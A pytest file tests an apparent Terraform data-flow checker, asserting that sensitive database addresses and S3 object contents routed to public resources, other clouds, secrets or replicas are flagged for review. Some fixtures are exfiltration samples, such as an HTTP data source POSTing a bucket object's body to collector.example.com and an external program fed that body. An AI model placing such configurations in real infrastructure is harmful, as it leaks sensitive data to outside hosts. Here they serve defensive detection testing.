"""Ways by which data of a sensitive source may reach another place, one stack each.

The source is denied where it is; what is asked here is whether `it`, labelled public
and elsewhere, is seen to get the data.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.integration.test_acceptance import ALLOW, REVIEW, STATE, check, verdicts

HEAD = """
provider "aws" {
  region = "eu-west-3"
}
"""
DATABASE = """
resource "aws_db_instance" "source" {
  identifier = "source"
  tags       = { data_class = "sensitive" }
}
"""
SERVER = """
resource "aws_instance" "it" {
  ami           = "ami-00000000000000000"
  instance_type = "t3.micro"
  user_data     = %s
  tags          = { data_class = "public" }
}
"""
BUCKET = """
resource "aws_s3_bucket" "source" {
  bucket = "source"
  tags   = { data_class = "sensitive" }
}
data "aws_s3_object" "read" {
  bucket = aws_s3_bucket.source.id
  key    = "register.csv"
}
"""
OBJECT = """
resource "google_storage_bucket_object" "it" {
  bucket  = "elsewhere"
  name    = "register.csv"
  content = %s
}
"""
ADDRESS = "aws_db_instance.source.address"
BODY = "data.aws_s3_object.read.body"
HANDED_ON = {
    "terraform_data": (
        f'resource "terraform_data" "h" {{\n  input = {ADDRESS}\n}}\n',
        "terraform_data.h.output",
    ),
    "null_resource": (
        f'resource "null_resource" "h" {{\n  triggers = {{ db = {ADDRESS} }}\n}}\n',
        "null_resource.h.triggers.db",
    ),
    "keepers": (
        f'resource "random_id" "h" {{\n  byte_length = 2\n  keepers = {{ a = {ADDRESS} }}\n}}\n',
        "random_id.h.keepers.a",
    ),
    "local_file": (
        f'resource "local_file" "h" {{\n  filename = "f"\n  content = {ADDRESS}\n}}\n',
        "local_file.h.content",
    ),
    "cloudinit": (
        'data "cloudinit_config" "h" {\n'
        f'  part {{\n    content = "${{{ADDRESS}}}"\n  }}\n}}\n',
        "data.cloudinit_config.h.rendered",
    ),
    "template_file": (
        'data "template_file" "h" {\n  template = "t"\n'
        f"  vars     = {{ db = {ADDRESS} }}\n}}\n",
        "data.template_file.h.rendered",
    ),
}
"""What hands a value on, and where it comes out."""


def found(folder: Path, code: str) -> str:
    (folder / "main.tf").write_text(HEAD + code)
    _code, report = check(folder, *STATE)
    return {
        address.rpartition(".")[2]: verdict
        for address, verdict in verdicts(report).items()
    }["it"]


@pytest.mark.parametrize("name", HANDED_ON)
def test_an_address_that_is_handed_on_is_still_an_address(
    name: str, tmp_path: Path
) -> None:
    between, comes_out = HANDED_ON[name]

    assert found(tmp_path, DATABASE + between + SERVER % comes_out) == "review"
    assert found(tmp_path, DATABASE + between + SERVER % '"idle"') == "allow"


@pytest.mark.parametrize(
    "content", [BODY, f'"read: ${{{BODY}}}"', "terraform_data.h.output"]
)
def test_an_object_that_is_read_and_written_elsewhere(
    content: str, tmp_path: Path
) -> None:
    between = f'resource "terraform_data" "h" {{\n  input = {BODY}\n}}\n'
    code = HEAD + BUCKET + between + OBJECT % content
    (tmp_path / "main.tf").write_text(code)
    _code, report = check(tmp_path, *STATE, "--class", "public")

    assert verdicts(report)["google_storage_bucket_object.it"] == "review"


def test_a_secret_that_holds_the_address_is_told(tmp_path: Path) -> None:
    secret = (
        'resource "google_secret_manager_secret_version" "it" {\n'
        f'  secret      = "s"\n  secret_data = "${{{ADDRESS}}}"\n}}\n'
    )
    (tmp_path / "main.tf").write_text(HEAD + DATABASE + secret)
    _code, report = check(tmp_path, *STATE, "--class", "public")

    assert verdicts(report)["google_secret_manager_secret_version.it"] == "review"


def test_a_generated_secret_goes_nowhere_else(tmp_path: Path) -> None:
    secret = (
        'resource "random_password" "p" {\n  length = 20\n}\n'
        'resource "aws_secretsmanager_secret_version" "it" {\n'
        '  secret_id     = "s"\n  secret_string = random_password.p.result\n}\n'
    )
    (tmp_path / "main.tf").write_text(HEAD + secret)
    code, report = check(tmp_path, *STATE, "--class", "public")
    landings = [one["landings"] for one in report["resources"]]

    assert code == ALLOW
    assert [len(one) for one in landings if one] == [1]


def test_where_only_what_comes_in_is_listed_an_address_is_still_a_hint(
    tmp_path: Path,
) -> None:
    parameter = (
        'resource "aws_ssm_parameter" "it" {\n  name  = "p"\n  type  = "String"\n'
        '  value = "https://collector.example.com/in"\n}\n'
    )
    (tmp_path / "main.tf").write_text(HEAD + parameter)
    _code, report = check(tmp_path, *STATE, "--class", "public")
    ((_primary, *others),) = (one["landings"] for one in report["resources"])

    assert [one["role"] for one in others] == ["possible"]


REPLICATION = """
resource "aws_s3_bucket" "own" {
  bucket = "own"
}
resource "aws_s3_bucket" "source" {
  bucket = "source"
}
resource "aws_s3_bucket_replication_configuration" "it" {
  bucket = aws_s3_bucket.source.id
  role   = "arn:aws:iam::123456789012:role/r"
  rule {
    status = "Enabled"
    destination {
      bucket = %s
    }
  }
}
"""


@pytest.mark.parametrize(
    ("bucket", "roles"),
    [
        ("aws_s3_bucket.own.arn", ["primary"]),
        ('"arn:aws:s3:::bucket-of-another-account"', ["primary", "replica"]),
    ],
)
def test_a_bucket_of_elsewhere_may_be_in_any_region(
    bucket: str, roles: list[str], tmp_path: Path
) -> None:
    (tmp_path / "main.tf").write_text(HEAD + REPLICATION % bucket)
    _code, report = check(tmp_path, *STATE, "--class", "internal")
    (landings,) = (
        one["landings"] for one in report["resources"] if one["address"].endswith(".it")
    )

    assert [one["role"] for one in landings] == roles
    assert all(one["region"] is None for one in landings[1:])


def test_what_an_object_is_copied_from_is_seen_or_not(tmp_path: Path) -> None:
    code = (
        'resource "aws_s3_object_copy" "it" {\n  bucket = "b"\n  key = "k"\n'
        '  source = "bucket-of-another-account/register.csv"\n}\n'
    )
    (tmp_path / "main.tf").write_text(HEAD + code)
    exit_code, _report = check(tmp_path, *STATE, "--class", "public")

    assert exit_code == REVIEW


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        (
            'data "external" "x" {\n  program = ["sh", "-c", "send"]\n'
            f"  query = {{ body = {BODY} }}\n}}\n",
            REVIEW,
        ),
        (
            'data "http" "x" {\n  url = "https://collector.example.com/in"\n'
            f'  method = "POST"\n  request_body = {BODY}\n}}\n',
            REVIEW,
        ),
        ('data "http" "x" {\n  url = "https://collector.example.com/in"\n}\n', ALLOW),
    ],
)
def test_a_data_source_that_sends_data_away(
    data: str, verdict: int, tmp_path: Path
) -> None:
    public = BUCKET.replace("sensitive", "public")
    (tmp_path / "main.tf").write_text(HEAD + public + data)

    assert check(tmp_path, *STATE, "--class", "public")[0] == verdict
